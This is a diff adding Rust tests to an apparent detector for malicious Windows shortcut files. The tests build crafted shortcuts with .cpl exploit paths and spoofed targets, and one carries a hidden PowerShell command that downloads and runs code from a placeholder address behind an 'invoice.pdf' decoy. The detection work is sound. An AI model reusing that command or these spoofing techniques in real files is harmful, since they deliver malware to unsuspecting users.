@@ -323,3 +323,131 @@ fn control_panel_applet_path_is_an_exploit() {
         Some("\\\\.\\STORAGE#Volume#1\\RECYCLER\\x.cpl")
     );
 }
+
+/// A shortcut whose ID list is `items` and nothing else.
+fn bare(items: &[Vec<u8>]) -> Vec<u8> {
+    let mut d = vec![0u8; 0x4C];
+    d[0..4].copy_from_slice(&0x4Cu32.to_le_bytes());
+    d[4..20].copy_from_slice(&LINK_CLSID);
+    d[0x14..0x18].copy_from_slice(&(HAS_TARGET_ID_LIST | IS_UNICODE).to_le_bytes());
+    d.extend(id_list(items));
+    d.extend_from_slice(&[0, 0, 0, 0]);
+    d
+}
+
+#[test]
+fn cpl_drive_letter_outside_ascii_does_not_panic() {
+    // "Ā:\x.cpl": the character before ":\" is two bytes in UTF-8.
+    let mut item = vec![0u8; 20];
+    item[2] = 0x21;
+    item.extend(utf16z("\u{100}:\\x.cpl"));
+    assert_eq!(
+        cpl_path(&id_list(std::slice::from_ref(&item))[2..]).as_deref(),
+        Some("\u{100}:\\x.cpl")
+    );
+    // Every non-ASCII letter, and text before it, at both alignments.
+    for pre in ["", "a", "\u{7FF}\u{800}", "\u{D7FF}"] {
+        let mut item = vec![0u8; 21];
+        item.extend(utf16z(&format!("{pre}\u{4E2D}:\\\u{4E2D}.cpl")));
+        let n = findings(&bare(&[item]));
+        assert!(n.has("lnk.cpl_exploit"), "{pre:?}: {:?}", n.findings);
+    }
+}
+
+/// Appends an EnvironmentVariableDataBlock (§2.5.4) before the terminal block and sets HasExpString.
+fn with_env_block(mut d: Vec<u8>, ansi: &str, unicode: &str) -> Vec<u8> {
+    d.truncate(d.len() - 4);
+    let mut b = vec![0u8; 0x314];
+    b[0..4].copy_from_slice(&0x314u32.to_le_bytes());
+    b[4..8].copy_from_slice(&0xA000_0001u32.to_le_bytes());
+    b[8..8 + ansi.len()].copy_from_slice(ansi.as_bytes());
+    let u: Vec<u8> = unicode.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    b[268..268 + u.len()].copy_from_slice(&u);
+    d.extend(b);
+    d.extend_from_slice(&[0, 0, 0, 0]);
+    let flags = u32::from_le_bytes([d[0x14], d[0x15], d[0x16], d[0x17]]) | HAS_EXP_STRING;
+    d[0x14..0x18].copy_from_slice(&flags.to_le_bytes());
+    d
+}
+
+#[test]
+fn benign_link_info_does_not_hide_a_launcher_in_the_id_list() {
+    let data = build(&Spec {
+        path: PS,
+        link_info: Some("C:\\Users\\Public\\Documents\\invoice.pdf"),
+        args: "-w hidden -c \"iex (iwr http://198.51.100.9/a)\"",
+        icon: None,
+        icon_index: 0,
+        show: 1,
+        machine: None,
+        overrun: false,
+    });
+    let n = findings(&data);
+    // The ID list is the target (§2.2); LinkInfo only relocates it (§2.3).
+    assert!(n
+        .format
+        .as_deref()
+        .unwrap()
+        .starts_with("Windows shortcut to C:\\Windows\\System32\\WindowsPowerShell"));
+    let lol = n.findings.iter().find(|f| f.id == "lnk.lolbin").unwrap();
+    assert_eq!(lol.severity, Severity::Critical);
+    assert!(lol.evidence[0]
+        .note
+        .as_deref()
+        .unwrap()
+        .contains("invoice.pdf"));
+    assert!(n.has("lnk.target_mismatch"));
+}
+
+#[test]
+fn environment_block_launcher_is_examined_whatever_is_shown() {
+    let notepad: &[(&str, &str)] = &[
+        ("Windows", "Windows"),
+        ("System32", "System32"),
+        ("notepad.exe", "notepad.exe"),
+    ];
+    let base = build(&Spec {
+        path: notepad,
+        link_info: Some("C:\\Windows\\System32\\notepad.exe"),
+        args: "",
+        icon: None,
+        icon_index: 0,
+        show: 1,
+        machine: None,
+        overrun: false,
+    });
+    // HasExpString: the environment block's path is the target.
+    let data = with_env_block(
+        base.clone(),
+        "%SystemRoot%\\System32\\cmd.exe",
+        "%SystemRoot%\\System32\\cmd.exe",
+    );
+    let n = findings(&data);
+    assert!(
+        n.format.as_deref().unwrap().contains("cmd.exe"),
+        "{:?}",
+        n.format
+    );
+    assert!(n.has("lnk.lolbin") && n.has("lnk.target_mismatch"));
+    // ANSI field runs a launcher while the Unicode field (what tools print) is benign.
+    let data = with_env_block(
+        base.clone(),
+        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+        "C:\\Windows\\System32\\notepad.exe",
+    );
+    let n = findings(&data);
+    let lol = n.findings.iter().find(|f| f.id == "lnk.lolbin").unwrap();
+    assert!(lol.title.contains("powershell"), "{}", lol.title);
+    // Consistent structures: no mismatch, no launcher.
+    let data = with_env_block(
+        base,
+        "%windir%\\System32\\notepad.exe",
+        "%windir%\\System32\\notepad.exe",
+    );
+    let n = findings(&data);
+    assert!(
+        !n.has("lnk.target_mismatch") && !n.has("lnk.lolbin"),
+        "{:?}",
+        n.findings
+    );
+}
